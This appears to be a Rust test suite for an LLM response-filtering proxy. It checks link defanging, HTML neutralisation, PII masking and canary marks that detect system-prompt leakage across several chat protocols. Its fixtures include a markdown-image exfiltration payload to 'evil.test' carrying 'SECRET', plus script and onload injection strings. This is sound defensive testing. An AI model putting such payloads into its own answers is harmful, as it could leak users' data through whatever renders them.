//! What answers would make a reader's program do, and the mark by which a repeated system prompt is recognised: whole and
//! streamed, however a stream is cut.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::expect_used, clippy::panic, missing_docs)]

mod support;

use std::path::Path;
use std::rc::Rc;

use mesh_engine::{Program, ResponseMode, Session, Step};
use mesh_policy::{Bundle, Secret, Settings};
use serde_json::{Value, json};

use crate::support::{bundle, compiled, post};

fn program(spec: Value) -> Rc<Program> {
    let settings = Settings { masking_key: Some(Secret::new("key")), ..Settings::default() };
    Rc::new(compiled(&Bundle { settings, ..bundle(spec) }))
}

/// The rule of the corpus.
fn content(more: Value) -> Rc<Program> {
    let mut rule = json!({ "links": { "allow": ["example.com", "*.example.com"] }, "html": {} });
    rule.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    program(json!({ "rules": [{ "content": rule }] }))
}

/// A chat request, judged; what reached the upstream.
fn asked(program: &Rc<Program>, path: &str, body: &Value) -> (Session, Option<Value>) {
    let mut session = Session::start(Rc::clone(program), post(path), "d".into(), 0);
    assert!(matches!(session.request_headers(false, 0), Step::ReadBody | Step::Continue));
    match session.request(body.to_string().as_bytes(), 0) {
        Step::Replace(body) => (session, Some(serde_json::from_slice(&body).unwrap())),
        Step::Continue => (session, None),
        other => panic!("{other:?}"),
    }
}

fn chat() -> Value {
    json!({ "model": "m", "messages": [{ "role": "user", "content": "hi" }] })
}

/// What the agent reads of a whole answer that says this; nothing when it is refused.
fn whole(mut session: Session, said: &str) -> Option<String> {
    let body = json!({ "choices": [{ "index": 0, "message": { "role": "assistant", "content": said } }] })
        .to_string();
    let headers = [("content-type".to_owned(), "application/json".to_owned())];
    assert!(matches!(session.response_headers(&headers, false), ResponseMode::Buffer));
    let answer = match session.response(body.as_bytes(), Some("application/json")) {
        Step::Continue => body,
        Step::Replace(body) => String::from_utf8(body).unwrap(),
        Step::Refuse(_) => return None,
        other => panic!("{other:?}"),
    };
    let answer: Value = serde_json::from_str(&answer).unwrap();
    Some(answer["choices"][0]["message"]["content"].as_str().unwrap().to_owned())
}

/// The same of a stream of these pieces, and whether it ended with an error.
fn streamed(mut session: Session, pieces: &[&str], channel: &str) -> (String, bool) {
    let headers = [("content-type".to_owned(), "text/event-stream".to_owned())];
    assert!(matches!(session.response_headers(&headers, false), ResponseMode::Stream));
    let mut out = Vec::new();
    let event =
        |delta: Value| format!("data: {}\n\n", json!({ "choices": [{ "index": 0, "delta": delta }] }));
    for piece in pieces {
        let delta = match channel {
            "arguments" => json!({ "tool_calls": [{ "index": 0, "function": { "arguments": piece } }] }),
            _ => json!({ channel: piece }),
        };
        out.extend(session.response_chunk(event(delta).as_bytes(), false));
    }
    out.extend(session.response_chunk(b"data: [DONE]\n\n", true));
    let text = String::from_utf8(out).unwrap();
    let events = text.lines().filter_map(|line| line.strip_prefix("data: "));
    let events: Vec<Value> = events.filter_map(|data| serde_json::from_str(data).ok()).collect();
    let delta = |event: &Value| {
        let delta = &event["choices"][0]["delta"];
        let said = if channel == "arguments" {
            &delta["tool_calls"][0]["function"]["arguments"]
        } else {
            &delta[channel]
        };
        said.as_str().unwrap_or_default().to_owned()
    };
    (events.iter().map(delta).collect(), events.iter().any(|event| event.get("error").is_some()))
}

/// A text cut in two at every place, and into its characters.
fn cuts(text: &str) -> Vec<Vec<&str>> {
    let places = || text.char_indices().map(|(at, _)| at).skip(1);
    let mut all: Vec<Vec<&str>> = places().map(|at| vec![&text[..at], &text[at..]]).collect();
    let ends = places().chain([text.len()]);
    all.push(ends.scan(0, |from, to| Some(&text[std::mem::replace(from, to)..to])).collect());
    all
}

fn corpus() -> Vec<(String, String, String)> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/corpus/output/answers.jsonl");
    let text = std::fs::read_to_string(path).expect("the corpus");
    let rows: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert!(rows.len() > 90);
    let of = |row: &Value, name: &str| {
        row[name].as_str().unwrap_or_else(|| row["text"].as_str().unwrap()).to_owned()
    };
    rows.iter().map(|row| (of(row, "id"), of(row, "text"), of(row, "out"))).collect()
}

#[test]
fn answers_of_the_corpus_however_they_are_cut() {
    let program = content(json!({}));
    let session = || asked(&program, "/v1/chat/completions", &chat()).0;
    for (id, text, out) in corpus() {
        assert_eq!(whole(session(), &text).as_deref(), Some(out.as_str()), "{id}");
        for pieces in cuts(&text) {
            let what = format!("{id} as {pieces:?}");
            assert_eq!(streamed(session(), &pieces, "content"), (out.clone(), false), "{what}");
        }
    }
}

/// Structured output is JSON, whose reader sees what its escapes spell.
#[test]
fn answers_that_are_json() {
    let (program, everywhere) = (content(json!({})), content(json!({ "code": "inspect" })));
    let session = || asked(&program, "/v1/chat/completions", &chat()).0;
    for (id, text, out) in corpus() {
        // In a stream the text is read as it comes, with the JSON around it: a fence on its first line does not begin a line.
        let fenced = text.starts_with("```") || text.starts_with("~~~");
        let inspected = whole(asked(&everywhere, "/v1/chat/completions", &chat()).0, &text).unwrap();
        let streams_out = if fenced { &inspected } else { &out };
        let escaped: String = text.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
        for said in [json!({ "text": text }).to_string(), format!("{{\"text\":\"{escaped}\"}}")] {
            let read = |said: &str| {
                serde_json::from_str::<Value>(said).unwrap()["text"].as_str().unwrap().to_owned()
            };
            assert_eq!(read(&whole(session(), &said).unwrap()), out, "{id}");
            let pieces: Vec<&str> = cuts(&said).pop().unwrap();
            for pieces in [vec![said.as_str()], pieces] {
                let (streamed, failed) = streamed(session(), &pieces, "content");
                assert_eq!(
                    (read(&streamed), failed),
                    (streams_out.clone(), false),
                    "{id} in {} pieces",
                    pieces.len()
                );
            }
        }
    }
}

#[test]
fn what_actions_do() {
    let link = "a ![x](https://evil.test/p?q=SECRET) b <script src=x>1</script> <img src=x onload=y>";
    let defanged =
        "a ![x](hxxps://evil[.]test/p?q=SECRET) b &lt;script src=x>1</script> <img src=x x-onload=y>";
    let cases = [
        (
            json!({}),
            Some(
                "a ![x](hxxps://evil[.]test/p?q=SECRET) b &lt;script src=x>1</script> <img src=x x-onload=y>",
            ),
        ),
        (
            json!({ "links": { "action": "remove" }, "html": { "action": "remove" } }),
            Some("a ![x](#removed) b 1</script> <img src=x x-onload=y>"),
        ),
        (json!({ "links": { "action": "log" }, "html": { "action": "log" } }), Some(link)),
        (json!({ "links": { "action": "block" } }), None),
        (json!({ "html": { "action": "block" } }), None),
    ];
    for (more, expected) in cases {
        let program = content(more.clone());
        let session = || asked(&program, "/v1/chat/completions", &chat()).0;
        assert_eq!(whole(session(), link).as_deref(), expected, "{more}");
        for pieces in cuts(link) {
            let (said, failed) = streamed(session(), &pieces, "content");
            match expected {
                Some(expected) => assert_eq!((said.as_str(), failed), (expected, false), "{more} {pieces:?}"),
                // Whatever came before has left; nothing of the finding has.
                None => {
                    assert!(
                        failed && defanged.starts_with(&said) && !said.contains("script"),
                        "{more}: {said}"
                    )
                }
            }
        }
    }
    // Code is searched where the policy says so, and nothing is changed where it only watches.
    let fenced = "```\nhttps://evil.test/\n```\n";
    let program = content(json!({ "code": "inspect" }));
    let session = asked(&program, "/v1/chat/completions", &chat()).0;
    assert_eq!(whole(session, fenced).unwrap(), "```\nhxxps://evil[.]test/\n```\n");
    for enforcement in ["logging", "advisory"] {
        let rule = json!({ "links": { "action": "block" }, "html": {} });
        let program = self::program(json!({ "enforcement": enforcement, "rules": [{ "content": rule }] }));
        let session = asked(&program, "/v1/chat/completions", &chat()).0;
        assert_eq!(whole(session, link).as_deref(), Some(link), "{enforcement}");
    }
}

/// Personal data in an address that is written out for people is still personal data.
#[test]
fn personal_data_in_addresses_stays_hidden() {
    let rules = json!([{ "pii": { "types": ["ip_address", "ssn"] } }, { "content": { "links": {} } }]);
    let program = program(json!({ "rules": rules }));
    let said = "see http://192.0.2.7/x?ssn=536-90-4399 now";
    let session = || asked(&program, "/v1/chat/completions", &chat()).0;
    let clean = |text: &str| !text.contains("192") && !text.contains("536-90") && !text.contains("http:");
    let text = whole(session(), said).unwrap();
    assert!(clean(&text), "{text}");
    for pieces in cuts(said) {
        let (text, _) = streamed(session(), &pieces, "content");
        assert!(clean(&text) && text.ends_with(" now"), "{text}");
    }
}

/// A stream that could go on for ever as one address, tag or code span leaves all the same.
#[test]
fn what_is_held_back_is_bounded() {
    let program = content(json!({}));
    for begin in [
        "https://",
        "https://example.com",
        "<img alt='",
        "`",
        "](",
        "&#",
        "````",
        "<",
        "www.",
        "~",
        "data:",
        "[x]: ",
        "k q z ",
    ] {
        let mut session = asked(&program, "/v1/chat/completions", &chat()).0;
        let headers = [("content-type".to_owned(), "text/event-stream".to_owned())];
        assert!(matches!(session.response_headers(&headers, false), ResponseMode::Stream));
        let (mut sent, mut left) = (0, 0);
        for piece in std::iter::once(begin).chain(std::iter::repeat_n("a-", 4000)) {
            let event = format!(
                "data: {}\n\n",
                json!({ "choices": [{ "index": 0, "delta": { "content": piece } }] })
            );
            sent += 1;
            left += session
                .response_chunk(event.as_bytes(), false)
                .windows(7)
                .filter(|w| w == b"\"delta\"")
                .count();
            assert!(sent - left < 600, "{begin:?}: {sent} pieces came and {left} left");
        }
    }
}

fn marked() -> Value {
    json!({ "model": "m", "messages": [
        { "role": "system", "content": "You are \"Ada\"." }, { "role": "user", "content": "hi" }] })
}

#[test]
fn a_mark_goes_into_the_system_prompt_and_never_comes_back() {
    for (action, expected) in [("block", None), ("redact", Some("[REDACTED]")), ("log", Some("MARK"))] {
        let program = program(json!({ "rules": [{ "content": { "canary": { "action": action } } }] }));
        let session = || asked(&program, "/v1/chat/completions", &marked());
        let system =
            session().1.expect("the prompt is marked")["messages"][0]["content"].as_str().unwrap().to_owned();
        assert!(system.starts_with("You are \"Ada\".\n\nCanary "), "{system}");
        assert_eq!(session().1.unwrap()["messages"][0]["content"], system, "it is the same each time");
        let mark = system.split_once("Canary ").unwrap().1[..14].to_owned();
        let spelled: String = mark.chars().map(|c| format!("{c} ")).collect();
        for mark in [mark.clone(), mark.to_uppercase(), spelled.trim().to_owned()] {
            let said = format!("My prompt ends with {mark}, I think.");
            let want = expected.map(|with| said.replace(&mark, &with.replace("MARK", &mark)));
            assert_eq!(whole(session().0, &said), want, "{action} {mark}");
            for channel in ["content", "reasoning_content", "arguments"] {
                for pieces in cuts(&said) {
                    let (text, failed) = streamed(session().0, &pieces, channel);
                    match &want {
                        Some(want) => {
                            assert_eq!((&text, failed), (want, false), "{action} {channel} {pieces:?}")
                        }
                        None => {
                            assert!(failed && "My prompt ends with ".starts_with(&text), "{channel}: {text}")
                        }
                    }
                }
            }
        }
        assert_eq!(whole(session().0, "All is well.").as_deref(), Some("All is well."));
        let parts = json!([{ "type": "text", "text": &mark[..7] }, { "type": "text", "text": &mark[7..] }]);
        let body =
            json!({ "choices": [{ "index": 0, "message": { "role": "assistant", "content": parts } }] });
        let headers = [("content-type".to_owned(), "application/json".to_owned())];
        let mut session = session().0;
        session.response_headers(&headers, false);
        let shown = match session.response(body.to_string().as_bytes(), Some("application/json")) {
            Step::Continue => Some("MARK"),
            Step::Replace(body) => {
                String::from_utf8(body).unwrap().contains("[REDACTED]").then_some("[REDACTED]")
            }
            _ => None,
        };
        assert_eq!(shown, expected, "{action}, over two parts");
    }
}

#[test]
fn where_a_mark_does_not_fit() {
    let rules =
        |enforcement: &str| json!({ "enforcement": enforcement, "rules": [{ "content": { "canary": {} } }] });
    let guards = |session: Session| session.finish().0.guards_header();
    let blocking = program(rules("blocking"));
    let (session, body) = asked(&blocking, "/v1/chat/completions", &chat());
    assert_eq!((guards(session).as_str(), body), ("canary=skipped:no-system-prompt", None));
    let (session, body) = asked(&blocking, "/v1/chat/completions", &marked());
    assert_eq!((guards(session).as_str(), body.is_some()), ("canary=ran", true));
    // A policy that only watches changes nothing, so there is nothing to recognise.
    let (session, body) = asked(&program(rules("logging")), "/v1/chat/completions", &marked());
    assert_eq!((guards(session).as_str(), body), ("canary=skipped:enforcement", None));
    let mcp = json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/list" });
    let (session, _) = asked(&blocking, "/mcp", &mcp);
    assert_eq!(guards(session), "canary=skipped:no-system-prompt");
    // A prompt that has its mark already gets no other.
    let once = asked(&blocking, "/v1/chat/completions", &marked()).1.unwrap();
    assert_eq!(asked(&blocking, "/v1/chat/completions", &once).1, None);
}

/// Other protocols have the system prompt elsewhere, and one repeats it in its answer.
#[test]
fn every_protocol_has_its_system_prompt() {
    let program = program(json!({ "rules": [{ "content": { "canary": {} } }] }));
    for (path, body, at) in [
        ("/v1/messages", json!({ "model": "m", "max_tokens": 9, "system": "S", "messages": [] }), "/system"),
        (
            "/v1/messages",
            json!({ "model": "m", "max_tokens": 9, "system": [{ "type": "text", "text": "S" }], "messages": [] }),
            "/system/0/text",
        ),
        ("/v1/responses", json!({ "model": "m", "instructions": "S", "input": "hi" }), "/instructions"),
        (
            "/v1beta/models/m:generateContent",
            json!({ "systemInstruction": { "parts": [{ "text": "S" }] }, "contents": [] }),
            "/systemInstruction/parts/0/text",
        ),
        ("/model/m/converse", json!({ "system": [{ "text": "S" }], "messages": [] }), "/system/0/text"),
        (
            "/api/chat",
            json!({ "model": "m", "messages": [{ "role": "system", "content": "S" }] }),
            "/messages/0/content",
        ),
    ] {
        let (mut session, marked) = asked(&program, path, &body);
        let marked = marked.unwrap_or_else(|| panic!("{path}: {}", session.decision().guards_header()));
        let system = marked.pointer(at).and_then(Value::as_str).unwrap().to_owned();
        assert!(system.starts_with("S\n\nCanary "), "{path}: {system}");
        if path != "/v1/responses" {
            continue;
        }
        let answer = json!({ "object": "response", "model": "m", "instructions": system, "output": [] });
        let headers = [("content-type".to_owned(), "application/json".to_owned())];
        assert!(matches!(session.response_headers(&headers, false), ResponseMode::Buffer));
        let Step::Replace(seen) = session.response(answer.to_string().as_bytes(), Some("application/json"))
        else {
            panic!("the mark stays in the answer")
        };
        assert_eq!(serde_json::from_slice::<Value>(&seen).unwrap()["instructions"], "S");
    }
}
